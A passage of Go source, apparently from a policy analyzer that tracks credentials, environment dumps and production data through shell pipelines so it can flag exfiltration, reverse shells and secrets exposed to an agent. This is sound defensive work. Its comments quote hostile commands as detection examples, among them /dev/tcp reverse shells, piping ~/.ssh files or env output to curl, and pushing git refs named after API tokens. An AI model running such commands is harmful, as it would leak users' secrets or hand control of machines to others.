// directory or above it, other users' homes, or a directory whose files
// the policy treats as credentials.
func (a *analysis) sensitiveDir(p string) bool {
	switch p {
	case "/", "/home", "/root", "/Users", "/etc", a.env.Home:
		return true
	}
	if a.env.Home != "" && strings.HasPrefix(a.env.Home, p+"/") {
		return true
	}
	if a.sensitive(p + "/x") {
		// every file in it is a credential (~/.ssh); not a file the
		// policy spares by its name among them (~/.ssh/id_ed25519.pub,
		// known_hosts), which is that file and no directory
		return !a.sparedAmongCredentials(p)
	}
	// The names credential stores give the one file that matters (gh's
	// hosts.yml, docker's config.json, rclone.conf...): a directory holding
	// one is a credential directory. Its archive or copy sent out carries
	// them, whichever rule makes them credentials.
	for _, probe := range credentialNames {
		if a.sensitive(p + "/" + probe) {
			return true
		}
	}
	return false
}

// sparedAmongCredentials reports a path the policy does not take for a
// credential in a directory whose other files all are (a public key in
// ~/.ssh): a file the policy names, not a directory of credentials.
func (a *analysis) sparedAmongCredentials(p string) bool {
	dir := path.Dir(p)
	return dir != p && !a.sensitive(p) && a.sensitive(dir+"/x")
}

// scansCredentials reports a scanner (a source=output entry: gitleaks,
// trufflehog) given a credential store, a credential file or the home (or
// a directory above it) to scan, as an operand or a read option's value
// (gitleaks detect --source ~).
func (a *analysis) scansCredentials(i int, cl *catalog.Classified) bool {
	for _, w := range cl.Words {
		if w.Option != "" && w.Role != catalog.Read {
			continue
		}
		t := w.Text
		if !strings.HasPrefix(t, "~") && !strings.HasPrefix(t, "/") && !homeWord(t) {
			continue // a verb (filesystem, detect) or the project's own path
		}
		if p := a.clean(t, i); a.sensitiveDir(p) || a.sensitive(p) {
			return true
		}
	}
	return false
}

// credentialNames are the names credential stores give the one file that
// matters in their directory.
var credentialNames = []string{"credentials", "hosts.yml", "config.json", "credentials.json", "credentials.db", "rclone.conf", "auth.json", "token"}

// namedCredentialDir is sensitiveDir for what lands in a directory (an
// archive unpacked over it): a credential file's name counts when a rule
// names it in this directory, not when it is a credential by its name
// wherever it lies (auth.json in any hidden directory, which would make
// every directory under home one). The same name one level deeper, which
// only a rule of the second kind also stops, tells them apart.
func (a *analysis) namedCredentialDir(p string) bool {
	switch p {
	case "/", "/home", "/root", "/Users", "/etc", a.env.Home:
		return true
	}
	if a.env.Home != "" && strings.HasPrefix(a.env.Home, p+"/") || a.sensitive(p+"/x") {
		return true
	}
	for _, probe := range credentialNames {
		if a.sensitive(p+"/"+probe) && !a.sensitive(p+"/.probe/"+probe) {
			return true
		}
	}
	return false
}

// plainTreesCopied reports a command whose own recursive reads, the
// source of its home-archive, are all plain folders of the home
// (~/Downloads/assets, ~/Pictures/icons): below the home, no hidden
// directory on the way, and no credential file a rule names there
// (namedCredentialDir). Copied into a file or a folder here they are a
// person's files brought into the project, not an archive of the home;
// sent off the machine they are still judged as the home's.
func (a *analysis) plainTreesCopied(f *cmdFacts) bool {
	if f.source != "home-archive" || len(f.reads) == 0 || a.env.Home == "" {
		return false
	}
	for _, p := range f.reads {
		rest, ok := strings.CutPrefix(p, a.env.Home+"/")
		if ok && plainConfig(rest) {
			continue // ~/.config/nvim: an editor's or a terminal's own settings (plainconfigs.go)
		}
		if !ok || rest == "" || strings.HasPrefix(rest, ".") || strings.Contains(rest, "/.") || a.namedCredentialDir(p) {
			return false
		}
	}
	return true
}

// taintStrings returns n empty strings for the flow pass, cut from the
// scratch's array (cleared when the scratch is kept).
func (a *analysis) taintStrings(n int) []string {
	i := len(a.taint)
	if cap(a.taint)-i < n {
		a.taint = make([]string, 0, max(2*n, 2*cap(a.taint)))
		i = 0
	}
	a.taint = a.taint[:i+n]
	return a.taint[i : i+n : i+n]
}

// flows follows sensitive data from its sources through pipelines, files
// written on the line and command substitutions (also through variables),
// and reports a Flow for each command that sends it out to a host that is
// not this machine.
func (a *analysis) flows() {
	cmds := a.res.Commands
	taint := a.taintStrings(len(cmds))  // the source kind a command's output carries
	origin := a.taintStrings(len(cmds)) // the program that produced it, when one did
	files := map[string]string{}        // file written with tainted data → source
	listings := map[string]bool{}       // file written with a listing of credential files
	repo := ""                          // tainted data added to the git repository
	var trail envTrail                  // the whole environment printed, to its last stage (envpicks.go)
	// A command that sends to the network before this pass (which sets the
	// sink of each command as it comes to it, none of a later one): with
	// none, no filter's picked lines are handed on to one (picksSecretsToSend).
	netSink := false
	for j := range a.per {
		netSink = netSink || a.per[j].sink == "network"
		if a.per[j].source == testKey && a.keyRewritten(a.per[j].reads) {
			a.per[j].source = "credential" // testkeys.go
			if !a.anySensitive(a.per[j].reads) {
				a.per[j].source = "" // a test key the line makes (openssl genpkey -out testdata/k.pem)
			}
		}
	}
	for i := range cmds {
		f := &a.per[i]
		if f.source != "" {
			taint[i] = f.source
			origin[i] = f.origin
		}
	}
	// A command that runs a string (bash -c, ssh HOST CMD, fly ssh console
	// -C) prints what the last stage of each pipeline in it prints. Nested
	// commands follow their parent, one level deeper.
	for i := len(cmds) - 1; i >= 0; i-- {
		if taint[i] != "" || i+1 >= len(cmds) || cmds[i+1].Depth <= cmds[i].Depth {
			continue
		}
		d := cmds[i].Depth
		for j := i + 1; j < len(cmds) && cmds[j].Depth > d; j++ {
			if taint[j] != "" && cmds[j].Depth == d+1 && lastStage(cmds, j) {
				taint[i], origin[i] = taint[j], origin[j]
				break
			}
		}
	}
	a.fifoWriters(files, taint)
	// tainted lists the commands whose output carries a source, in index
	// order, so that a stage looks for its tainted input among those
	// alone rather than among every command of the line.
	var tbuf [16]int
	tainted := tbuf[:0]
	for j := range taint {
		if taint[j] != "" {
			tainted = append(tainted, j)
		}
	}
	// blockIn is what a block or loop reads through its own input
	// redirection (while read l; do …; done < "$F"), for the commands
	// inside it up to blockEnd (blockinput.go).
	blockIn, blockEnd := "", 0
	// Commands are reported in the order the shell meets them, so one
	// forward pass sees every earlier stage, file and substitution.
	for i := range cmds {
		c, f := &cmds[i], &a.per[i]
		if i >= blockEnd {
			blockIn = ""
		}
		in := "" // tainted data on its stdin
		inOrigin := ""
		args := "" // tainted data in its words
		if c.Stage > 0 {
			for _, j := range tainted {
				if j != i && cmds[j].Pipeline == c.Pipeline && cmds[j].Stage < c.Stage {
					in, inOrigin = taint[j], origin[j]
				}
			}
		}
		if in == "" && taint[i] == "" && !netSink && len(listings) == 0 && f.quietPlain(c) {
			// a plain filter given nothing tainted, on a line that sends
			// nothing: none of the readings below finds anything in it
			continue
		}
		if in == "production-data" && c.Name != "" && a.productionWord(i) == "" && !a.schemaOnlyBefore(i) {
			// pg_dump "$PROD_DATABASE_URL" -t users | psql app_dev: production's
			// data (its customers') loaded into another database
			if e, _ := a.cat.Lookup(c.Name, c.Args); e != nil && e.Prop("sql-stdin") != "" {
				a.add(Effect{Kind: Flow, Cmd: i, Detail: "production-data->database", Word: inOrigin + " | " + c.Name})
			}
		}
		argOrigin := ""
		for _, j := range c.Inputs {
			if j < len(taint) && taint[j] != "" {
				args, argOrigin = taint[j], origin[j]
			}
		}
		for _, v := range c.Via {
			if v == "xargs" || v == "parallel" {
				// xargs makes its input the command's arguments.
				if in != "" {
					args = in
				}
			}
		}
		fileSrc := ""
		for _, p := range f.reads {
			if s := a.taintedRead(files, p, f.tree); s != "" {
				fileSrc = s
			}
		}
		if fileSrc == "" && len(c.Inputs) > 0 && computedRead(f.reads) && a.listsSensitive(c.Inputs) {
			// cat $(ls ~/.ssh/id_* | grep -v pub): the files it reads are
			// those a command in the substitution lists.
			fileSrc = "credential"
		}
		if len(f.reads) == 0 && f.tree && len(files) > 0 && (a.entryHas(c, f, "stages") || a.entryHas(c, f, "records")) {
			// git add -A, git commit -a: the whole working tree.
			fileSrc = first(fileSrc, a.taintedRead(files, a.clean(".", i), true))
		}
		if in != "" && argsUnresolved(c) {
			// env | while read l; do curl -d "$l" ...: a variable in a
			// stage that reads tainted input may hold it.
			args = first(args, in)
		}
		var stages [32]int // earlier stages, on the stack unless there are more
		if names := viaXargs(c) || a.namesOnStdin(c, f); in == "" && names && (a.namesSensitive(c.Stdin, i) ||
			c.Stage > 0 && a.stagesList(a.earlierStages(i, stages[:0]), listings)) {
			// find ~/.ssh -type f | xargs cat, ls ~/.aws/* | cpio -o,
			// cpio -o <<< ~/.ssh/id_rsa, sort /tmp/l | xargs cat after
			// find ~/.ssh > /tmp/l: the names of the files it reads come
			// from the listing, or from text known to reach its stdin.
			fileSrc = "credential"
		}
		if len(f.writes) > 0 && c.Is(listerKind) && a.listsSensitive([]int{i}) {
			for _, p := range f.writes {
				listings[p] = true // find ~/.ssh -type f > /tmp/l
			}
		}
		if in == "" && len(listings) > 0 && a.namesFromListing(c, f, i, listings) {
			// tar -T /tmp/l, cpio -o < /tmp/l: the names a listing wrote
			fileSrc = "credential"
		}
		if in == "" && fileSrc == "" && a.namesFromFile(c, f) {
			// tar -cf - --files-from=list: files nobody here can name,
			// which sent away are unknown, as cat "$F" | curl is
			fileSrc = unnamedFile
		}
		if in == "" && c.Stage > 0 && viaXargs(c) {
			for j := range cmds {
				if cmds[j].Pipeline == c.Pipeline && cmds[j].Stage < c.Stage && cmds[j].Name == "find" {
					for _, w := range cmds[j].Args {
						if !strings.HasPrefix(w, "-") && a.sensitiveDir(a.clean(w, j)) {
							fileSrc = "credential"
						}
					}
				}
			}
		}
		for _, r := range c.Redirects {
			if r.Op == "<" {
				p := a.clean(r.Target, i)
				switch {
				case taintedFile(files, p) != "":
					in = taintedFile(files, p)
				case environFile(p):
					in = "environment"
				case dotenvSecrets(p) && a.namesOnlyRead(i, f):
					// cut -d= -f1 < .env: the names alone (dotenvnames.go)
				case a.sensitive(p), dotenvSecrets(p):
					in = "credential"
				case in == "" && unresolved(p):
					in = unnamedFile // curl -T - < "$F"
				}
			}
		}
		if c.Block && c.Name == "" && in != "" && c.BlockEnd > i+1 {
			blockIn, blockEnd = in, c.BlockEnd
		} else if blockIn != "" && in == "" {
			in, args = blockInput(c, blockIn, args)
		}
		if in == "" && args == "" && viaXargs(c) {
			args = a.xargsFileTaint(files, i)
		}
		if taint[i] == "" {
			if taint[i] = first(in, args, fileSrc); taint[i] != "" {
				tainted = markTainted(tainted, i)
			}
		}
		if (taint[i] == "" || taint[i] == "output") && netSink && a.picksSecretsToSend(cmds, i) {
			// ./gradlew properties | grep -i password | curl -d @- URL:
			// the lines naming a secret, picked out of any program's
			// output and handed on to a stage that sends them
			tainted = markTainted(tainted, i)
			taint[i], origin[i] = "secret", c.Name
		}
		if in == "environment" && len(f.writes) == 0 && f.sink == "" && picksSecrets(c) && a.reachesAgent(cmds, i) {
			// env | grep -iE 'token|secret|key': the variables that hold
			// secrets, picked out of the environment into the agent's
			// context (env | grep -i proxy, or a count, is not).
			a.add(Effect{Kind: Flow, Cmd: i, Detail: "secret->agent", Word: c.Name + " picks the secrets out of the environment"})
		}
		if (in == "output" || in == "secret") && len(f.writes) == 0 && f.sink == "" && picksSecretOutput(c) && a.reachesAgent(cmds, i) {
			// docker inspect db | jq '.[0].Config.Env', bw list items | jq
			// '.[].login.password' (outputpicks.go)
			a.add(Effect{Kind: Flow, Cmd: i, Detail: "secret->agent", Word: c.Name + " picks the secrets out of a tool's output"})
		}
		if taint[i] == "" && len(f.writes) > 0 && passesValue.Get(c.Name) {
			if v := stdinSecretVar(c); v != "" {
				// sort <<< "$GITHUB_TOKEN" > /tmp/t, tee t <<< "$T": the
				// secret its input carries is what it prints into the
				// file, as echo "$T" > t prints it (secretprint.go)
				taint[i], origin[i] = "secret-variable", secretHome(v)
				tainted = markTainted(tainted, i)
			}
		}
		if taint[i] == "" && f.sink == "" && readsUnnamed(f.reads) {
			// cat "$F": what it prints is a file nobody can name (any
			// known source above comes first).
			taint[i] = unnamedFile
			tainted = markTainted(tainted, i)
		}
		if t := taint[i]; t != "" {
			for _, p := range f.writes {
				files[p] = t
			}
			if len(c.Inputs) > 0 && a.entryHas(c, f, "names-out") {
				// mkdir -p "out/$(printenv | base64)": the path it makes
				// is named by the data, which a copy of it carries
				for _, w := range c.Args {
					if !strings.HasPrefix(w, "-") && (strings.Contains(w, "$(") || strings.Contains(w, "`")) {
						files[a.clean(w, i)] = t
					}
				}
			}
			if a.entryHas(c, f, "prefix-out") {
				// split F PREFIX: PREFIXaa, PREFIXab...
				if n := len(c.Args); n > 1 && !strings.HasPrefix(c.Args[n-1], "-") {
					files[a.clean(c.Args[n-1], i)+"*"] = t
				}
			}
			if len(f.writes) > 0 && (t == "secret" && !printsKubeconfig(c) || t == "credential" || t == "home-archive" && !a.plainTreesCopied(f) || t == inputCapture) && f.sink == "" {
				// (kind get kubeconfig > F: the kubeconfig of a cluster on
				// this machine, kept on it; localkubeconfig.go)
				a.add(Effect{Kind: Flow, Cmd: i, Detail: t + "->file", Word: c.Name + " " + strings.Join(f.writes, " ")})
			}
			if len(f.writes) > 0 && t == "production-data" && f.sink == "" && !schemaOnly(c) && !a.schemaOnlyBefore(i) && !slices.ContainsFunc(f.writes, inBackupDir) {
				// pg_dump -h db.prod app > prod.sql: production's records
				// (its customers') copied onto this machine; its schema
				// alone (pg_dump -s) is not, nor a dump kept where backups
				// are kept (> backups/prod.sql)
				a.add(Effect{Kind: Flow, Cmd: i, Detail: t + "->file", Word: c.Name + " " + strings.Join(f.writes, " ")})
			}
			if f.source == "secret" && a.storeHere(i) {
				// VAULT_ADDR=http://127.0.0.1:8200 vault kv get: a dev
				// server's secret, made for the work here (storehere.go)
			} else if f.source == "secret" && t == "secret" && (f.shows || !a.entryHas(c, f, "shows-format")) && len(f.writes) == 0 && f.sink == "" && c.Depth == 0 && (lastStage(cmds, i) || a.reachesAgent(cmds, i)) && a.productionWord(i) != "" && !showsNoValue(c.Args) && !f.listsNames {
				// kubectl get secret db -n prod -o jsonpath=..., op read
				// op://Prod/db/password: a production secret printed, into
				// the agent's context (a dev one, or one piped on to a
				// filter or a login, is not; nor a listing of production's
				// secrets' names whose output format, read, shows no value:
				// kubectl get secrets -n production, nor a listing the
				// catalogue does not say prints values: vault kv list
				// secret/prod/)
				a.add(Effect{Kind: Flow, Cmd: i, Detail: "secret->agent", Word: c.Name + " prints a production secret"})
			} else if f.shows && t == f.source && len(f.writes) == 0 && (f.sink == "" || f.fetched) && a.reachesAgent(cmds, i) && (t != "environment" && !a.entryHas(c, f, "lists-vars") || !a.picksHarmless(cmds, i)) {
				// gh auth token, vault kv get -field=password P, printenv
				// GITHUB_TOKEN: the secret itself printed into the agent's
				// context (names or state, a variable, a login reading
				// stdin or a file are not).
				if t == "environment" {
					// env, export -p, python3 -c 'print(dict(os.environ))':
					// every variable's value at once (codeenviron.go); not
					// env | grep -i proxy, which picks what it prints
					a.add(Effect{Kind: Flow, Cmd: i, Detail: "environment->agent", Word: c.Name + " prints the whole environment"})
				} else {
					a.add(Effect{Kind: Flow, Cmd: i, Detail: "secret->agent", Word: c.Name + " prints a secret"})
				}
			}
			if taint[i] == "environment" && a.envStep(&trail, cmds, i) {
				// env | tac, env > /tmp/e; cat /tmp/e: the whole environment
				// printed last by a stage the source's rule does not follow
				a.add(Effect{Kind: Flow, Cmd: i, Detail: "environment->agent", Word: c.Name + " prints the whole environment it is given"})
			}
			if fileSrc != "" && a.entryHas(c, f, "stages") {
				repo = fileSrc // git add of a tainted file
			}
			if r := first(args, fileSrc); r != "" && a.entryHas(c, f, "records") {
				// git commit -m "$(env)", git notes add -F FILE, git
				// commit -a over a tainted file: the repository holds it.
				repo = r
			}
		}
		if repo == "" && a.entryHas(c, f, "stages") && a.stagesCredentials(i, f) {
			repo = "credential"
		}
		if repo == "" && f.secretArg && a.entryHas(c, f, "records") {
			// git commit -m "$GITHUB_TOKEN", git tag "$NPM_TOKEN": the
			// repository holds the secret's value, and a push sends it
			repo = "credential"
		}
		if repo == "" && a.entryHas(c, f, "push") && i < len(a.cwds) && a.sensitiveDir(a.cwds[i]) && len(remoteWords(c)) > 0 {
			// git -C ~/.password-store push https://…: a repository of
			// credentials pushed to a place the line names, not its own
			// remote (pass git push is how the store is kept).
			repo = "credential"
		}
		if repo == "" && a.entryHas(c, f, "push") && (args == "secret" || args == "secret-variable" || args == "credential" || args == "environment" || f.secretArg && refExpands(c.Args)) {
			// git push x "main:refs/heads/$(gh auth token)", git push
			// origin "HEAD:$OPENAI_API_KEY", "HEAD:$(printenv NPM_TOKEN)":
			// a ref the secret names, made on the remote for anyone who
			// lists it
			what := args
			if what == "" {
				what = "credential"
			}
			a.add(Effect{Kind: Flow, Cmd: i, Detail: what + "->network", Word: "git push of a ref named by " + what})
			continue
		}
		if repo != "" && a.entryHas(c, f, "push") {
			a.add(Effect{Kind: Flow, Cmd: i, Detail: repo + "->network", Word: "git push of files holding " + repo})
			continue
		}
		if t := a.publishesTainted(files, i, f); t != "" {
			// env > src/env.txt && npm publish: the package holds it
			// (publishtree.go)
			a.add(Effect{Kind: Flow, Cmd: i, Detail: t + "->network", Word: c.Name + " publishes a tree holding " + t})
			continue
		}
		// (A container's command carrying a secret variable is judged
		// by what that command does, containerenv.go, not by docker's
		// words, among which the image's name looks like a host.)
		// Nor is a shell's -c text, whose commands the walk judges one by
		// one (sh -c 'wget --header "Authorization: token $GITHUB_TOKEN"
		// https://api.github.com/user' presents the token where it is for).
		secretArg := f.secretArg && !a.entryHas(c, f, "runs-image") && !shellText(c)
		// (Its own request files, mytool --data @.env URL, count as
		// given: requestItem's sends.)
		ownSends := f.source == "credential" && len(f.sends) > 0
		if f.sink == "" && (in != "" || args != "" || fileSrc != "" || secretArg || ownSends) && !c.Filter() && !a.entryHas(c, f, "offline") {
			// A program not known to send data, given sensitive data, that
			// names another host (mail, restic, smbclient, s3cmd, a
			// database client, ping); not a filter or a search, whose
			// host-shaped words are patterns or files.
			hosts := remoteWords(c)
			if f.secretArg {
				// psql "postgres://u:$AWS_SECRET_ACCESS_KEY@host",
				// ping "$TOKEN.x.example.net": the host of a word
				// that carries the secret.
				var inHost bool
				hosts, inHost = secretHosts(c, hosts)
				f.secretAsData = f.secretAsData || inHost
			}
			if len(hosts) > 0 {
				f.sink, f.hosts, f.sendsIn, f.argSend = "network", hosts, true, true
				if fileSrc != "" {
					f.sends = append(f.sends, f.reads...)
				}
			}
		}
		if c.Stage > 0 && codeFromStdin(c) && a.socketStage(i) {
			// cat < /dev/tcp/HOST/PORT | sh: the shell runs what the
			// connection sends, a reverse shell.
			a.add(Effect{Kind: Flow, Cmd: i, Detail: "socket->shell", Word: c.Name + " runs what a connection sends"})
		}
		if f.sink == "" {
			continue
		}
		sent := ""
		switch {
		case f.sendsIn && in != "":
			sent = in
		case args != "" && (f.argSend || f.sink == "dns" || f.sink == "network"):
			sent = args
		}
		for k, p := range f.sends {
			if s := a.taintedRead(files, p, f.tree); s != "" {
				sent = s
			} else if a.sensitive(p) || len(c.Inputs) > 0 && computedRead(f.sends[k:k+1]) && a.listsSensitive(c.Inputs) {
				sent = "credential"
			} else if a.sensitiveDir(p) && (f.source == "home-archive") {
				sent = "home-archive"
			}
		}
		if sent == "" && f.source != "" && f.sink != "" && len(f.sends) > 0 {
			sent = f.source
		}
		if sent == "" && c.Code.Network {
			sent = a.codeReadsTainted(files, i)
		}
		if sent == "" && f.outNet {
			// env > /dev/tcp/HOST/PORT: all it prints goes out.
			sent = taint[i]
		}
		if sent == "" && f.secretArg && (f.argSend || f.sink == "dns" || f.sink == "network" || f.sink == "clipboard") {
			// A secret variable whose service is known may only go there;
			// one of unknown purpose may authenticate (-u, a header, the
			// URL's path) but not travel as data, a query or a DNS name.
			switch {
			case f.secretPublished:
				// in a field others read: a gist's content, an issue's
				// body, even on the secret's own service (bodyfields.go)
				sent = "secret-variable"
			case len(f.hosts) == 0 && namedForProgram(c):
				// ngrok config add-authtoken "$NGROK_AUTHTOKEN", chisel
				// client --auth "$CHISEL_AUTH": the program's own login,
				// and no other host named (ownsecret.go)
			case f.secretOrigin != "" && !allHome(f.hosts, f.secretOrigin, f.secretAsData):
				if instance, public := selfManagedInstance(f.hosts, f.secretOrigin); instance && !f.secretAsData {
					// GITLAB_TOKEN to gitlab.acme.io: a self-managed
					// instance, or someone's host named like one
					if public {
						a.add(Effect{Kind: Unknown, Cmd: i, Detail: "secret-host", Word: "$" + f.secretVar + " sent to " + strings.Join(f.hosts, " ") + ", which may be a self-managed instance of its service or someone else's"})
					}
					break
				}
				sent = "secret-variable"
			case f.secretOrigin == "" && (f.secretAsData || f.sink == "dns"):
				sent = "secret-variable"
			case f.secretOrigin == "" && namedService(f.secretVar) != "" && !namedServiceHome(f.hosts, namedService(f.secretVar)):
				// DRONE_TOKEN to ci-metrics.devstats.cc: a login for a
				// service the host is not named for (namedservice.go)
				a.add(Effect{Kind: Unknown, Cmd: i, Detail: "secret-host", Word: "$" + f.secretVar + " sent to " + strings.Join(f.hosts, " ") + ", a host not named for its service"})
			}
		}
		if sent == "" || allLocal(f.hosts) {
			continue
		}
		if a.authenticates(c) && (sent == in && (inOrigin == "" || allHome(f.hosts, inOrigin, false)) || sent == args && (argOrigin == "" || allHome(f.hosts, argOrigin, false))) {
			// docker login --password-stdin with a registry token: a
			// credential presented where it is used, not sent away.
			continue
		}
		if sent == args && argOrigin != "" && !f.computedData && allHome(f.hosts, argOrigin, f.secretAsData || f.computedQuery) {
			// A token sent to the service it is for (gh auth token to
			// api.github.com) is the token's ordinary use.
			continue
		}
		if sent == unnamedFile {
			// A file nobody can name sent away is unknown, not a leak of
			// something known (cat "$F" | curl -d @-, as curl -T "$F").
			a.add(Effect{Kind: Unknown, Cmd: i, Detail: "upload-source", Word: c.Name + " sends a file the line does not name"})
			continue
		}
		if f.sink == "clipboard" && sent == "secret" && !a.productionFeed(cmds, i) {
			// clipboard.go: a dev secret a tool printed, copied for the
			// user to paste, is its ordinary use
			continue
		}
		a.add(Effect{Kind: Flow, Cmd: i, Detail: sent + "->" + f.sink, Word: c.Name + " " + strings.Join(f.hosts, " ")})
	}
}

// codeReadsTainted is the source kind of a file the line wrote that the
// interpreter code of command i, which talks to the network, opens (env >
// /tmp/e; python3 -c "requests.post(URL, data=open('/tmp/e').read())"):
// the walk reports the code's reads as commands one level deeper; a file
// given to the code as its argument (python3 -c "…open(sys.argv[1])…"
// /tmp/e) is one it opens too.
func (a *analysis) codeReadsTainted(files map[string]string, i int) string {
	cmds := a.res.Commands
	unnamed := false
	for _, w := range cmds[i].Args {
		if w != "" && w[0] != '-' && !strings.ContainsAny(w, " \t\n;(") {
			if s := a.taintedRead(files, w, false); s != "" {
				return s
			}
			unnamed = unnamed || unresolved(w)
		}
	}
	if unnamed && opensArgv(&cmds[i]) {
		// python3 -c "…open(sys.argv[1])…" "$F": a file nobody can
		// name, opened by the code that sends (blockinput.go)
		return unnamedFile
	}
	for j := i + 1; j < len(cmds) && cmds[j].Depth > cmds[i].Depth; j++ {
		if !cmds[j].Synthetic || cmds[j].Depth != cmds[i].Depth+1 {
			continue
		}
		for _, p := range a.per[j].reads {
			if s := a.taintedRead(files, p, false); s != "" {
				return s
			}
		}
	}
	return ""
}

// socketStage reports whether an earlier stage of command i's pipeline
// reads a connection (/dev/tcp as its input or a file it reads).
func (a *analysis) socketStage(i int) bool {
	cmds := a.res.Commands
	for j := range cmds {
		if j == i || cmds[j].Pipeline != cmds[i].Pipeline || cmds[j].Stage >= cmds[i].Stage {
			continue
		}
		if a.per[j].inNet {
			return true
		}
		for _, p := range a.per[j].reads {
			if _, ok := devTCP(p); ok {
				return true
			}
		}
	}
	return false
}

// codeFromStdin reports whether a command runs the code on its standard
// input: a shell or interpreter with no script, command string or module
// named, or given "-" or -s.
func codeFromStdin(c *shell.Command) bool {
	if !c.ShellOrInterpreter() {
		return false
	}
	for _, w := range c.Args {
		switch {
		case w == "-" || w == "-s":
			return true
		case w == "-c" || w == "-e" || w == "-m" || w == "-r" || w == "-E" || w == "--eval" || w == "--command":
			return false
		case !strings.HasPrefix(w, "-"):
			return false
		}
	}
	return true
}

// unnamedFile is the taint of output that holds a file the walk could not
// name: it is sent away as unknown, never as a flow of a known source.
const unnamedFile = "unnamed-file"

// readsUnnamed reports whether a command reads a path with an unresolved
// expansion in it.
func readsUnnamed(reads []string) bool {
	for _, p := range reads {
		if unresolved(p) {
			return true
		}
	}
	return false
}

// lastStage reports whether no later stage of command j's pipeline reads
// its output.
func lastStage(cmds []shell.Command, j int) bool {
	for k := range cmds {
		if k != j && cmds[k].Pipeline == cmds[j].Pipeline && cmds[k].Stage > cmds[j].Stage {
			return false
		}
	}
	return true
}

func first(xs ...string) string {
	for _, x := range xs {
		if x != "" {
			return x
		}
	}
	return ""
}

// allLocal reports whether every host is this machine. No host at all (a
// sink whose host is unknown) is not local.
func allLocal(hosts []string) bool {
	if len(hosts) == 0 {
		return false
	}
	for _, h := range hosts {
		if h == "" {
			return false
		}
		u, ok := match.ParseURL(h)
		if !ok || !loopback(u.Host) {
			return false
		}
	}
	return true
}

// loopback reports a host of this machine: localhost, a name under
// .localhost, a name its owner publishes as this machine's
// (loopbackNames), or a loopback address written out (127.0.0.1, ::1). A
// name that only begins like one (127.0.0.1.attacker.example,
// localhost.localstack.cloud.example.net) is another host's.
func loopback(h string) bool {
	if h == "localhost" || strings.HasSuffix(h, ".localhost") || loopbackName(h) {
		return true
	}
	if ip, err := netip.ParseAddr(h); err == nil {
		return ip.IsLoopback()
	}
	ap, err := netip.ParseAddrPort(h) // 127.0.0.1:4873
	if err == nil {
		return ap.Addr().IsLoopback()
	}
	if host, _, ok := strings.Cut(h, ":"); ok {
		h = host
	}
	ip, ok := shortIPv4(h)
	return ok && ip.IsLoopback()
}

// shortIPv4 reads an IPv4 address in the shorter forms the C library's
// inet_aton and URL clients take: 127.1 (the last part fills the rest),
// 127.0.1, one number (2130706433, 0x7f000001), each part decimal,
// hexadecimal (0x) or octal (a leading 0).
func shortIPv4(h string) (netip.Addr, bool) {
	if h == "" || strings.Trim(strings.ToLower(h), "0123456789abcdefx.") != "" {
		return netip.Addr{}, false
	}
	parts := strings.Split(h, ".")
	if len(parts) > 4 {
		return netip.Addr{}, false
	}
	var n uint64
	for i, p := range parts {
		v, err := strconv.ParseUint(p, 0, 32)
		if err != nil {
			return netip.Addr{}, false
		}
		if i < len(parts)-1 {
			if v > 255 {
				return netip.Addr{}, false
			}
			n |= v << (24 - 8*i)
			continue
		}
		if bits := 32 - 8*i; bits < 32 && v >= 1<<bits {
			return netip.Addr{}, false // the last part fills what is left, no more
		}
		n |= v
	}
	return netip.AddrFrom4([4]byte{byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}), true
}

// homeDomains are the services each credential tool's tokens are for.
var homeDomains = table.Once[map[string][]string]{Build: func() map[string][]string {
	return map[string][]string{
		"gh": {"github.com", "githubusercontent.com", "ghcr.io"}, "glab": {"gitlab.com"},
		"gcloud": {"googleapis.com", "google.com", "gcr.io", "pkg.dev"}, "aws": {"amazonaws.com"},
		"az": {"azure.com", "microsoft.com", "windows.net", "azure.net"}, "doctl": {"digitalocean.com"},
		"heroku": {"heroku.com"}, "npm": {"npmjs.org", "npmjs.com"}, "op": {"1password.com"},
		"openai": {"openai.com"}, "anthropic": {"anthropic.com"}, "cloudflare": {"cloudflare.com"},
		"stripe": {"stripe.com"}, "huggingface": {"huggingface.co", "hf.co"}, "sentry": {"sentry.io"},
		"wandb": {"wandb.ai", "wandb.com"}, "comet": {"comet.com", "comet.ml"}, "neptune": {"neptune.ai"}, "kaggle": {"kaggle.com"},
		"slack": {"slack.com"}, "vercel": {"vercel.com"}, "netlify": {"netlify.com"}, "fly": {"fly.io", "machines.dev"},
		"supabase": {"supabase.co", "supabase.com"}, "twilio": {"twilio.com"}, "sendgrid": {"sendgrid.com"},
		"datadog": {"datadoghq.com", "datadoghq.eu", "ddog-gov.com"}, "pypi": {"pypi.org"}, "crates": {"crates.io"},
		"rubygems": {"rubygems.org"}, "docker": {"docker.io", "docker.com"}, "linear": {"linear.app"},
		"notion": {"notion.com", "notion.so"}, "mistral": {"mistral.ai"}, "groq": {"groq.com"}, "cohere": {"cohere.com", "cohere.ai"},
		"replicate": {"replicate.com"}, "pulumi": {"pulumi.com"}, "circleci": {"circleci.com"}, "snyk": {"snyk.io"},
		"codecov": {"codecov.io"}, "mailgun": {"mailgun.net", "mailgun.org"}, "postmark": {"postmarkapp.com"},
		"algolia": {"algolia.net", "algolianet.com", "algolia.io"}, "shopify": {"shopify.com", "myshopify.com"},
		"atlassian": {"atlassian.net", "atlassian.com"}, "okta": {"okta.com", "oktapreview.com"}, "auth0": {"auth0.com"},
		"railway": {"railway.app", "railway.com"}, "render": {"render.com"}, "terraform": {"terraform.io", "hashicorp.com"},
		"honeycomb": {"honeycomb.io"}, "azdevops": {"dev.azure.com", "visualstudio.com"}, "buildkite": {"buildkite.com"},
		"crowdin": {"crowdin.com"}, "lokalise": {"lokalise.com"}, "phrase": {"phrase.com", "phraseapp.com"},
		"chromatic": {"chromatic.com"}, "contentful": {"contentful.com"}, "sanity": {"sanity.io"},
		"storyblok": {"storyblok.com"},
		"alchemy":   {"alchemy.com", "alchemyapi.io"}, "infura": {"infura.io"}, "etherscan": {"etherscan.io"},
		"binance": {"binance.com", "binance.vision"}, "coinbase": {"coinbase.com"}, "kraken": {"kraken.com"},
		"paypal": {"paypal.com"}, "square": {"squareup.com", "squareupsandbox.com"}, "adyen": {"adyen.com", "adyenpayments.com"},
	}
}}

// allHome reports whether every host belongs to the service the tool's
// tokens are for, and is not one of its customers' (customerhosts.go;
// data: what is sent travels as data, not as authentication).
func allHome(hosts []string, tool string, data bool) bool {
	if home, ok := selfHostedHome(hosts, tool); ok {
		return home
	}
	if len(homeDomains.Get()[tool]) == 0 || len(hosts) == 0 {
		return false
	}
	for _, h := range hosts {
		u, ok := match.ParseURL(h)
		if !ok || CustomerHost(u.Host, data) {
			return false
		}
		if !inHomeDomain(u.Host, tool) {
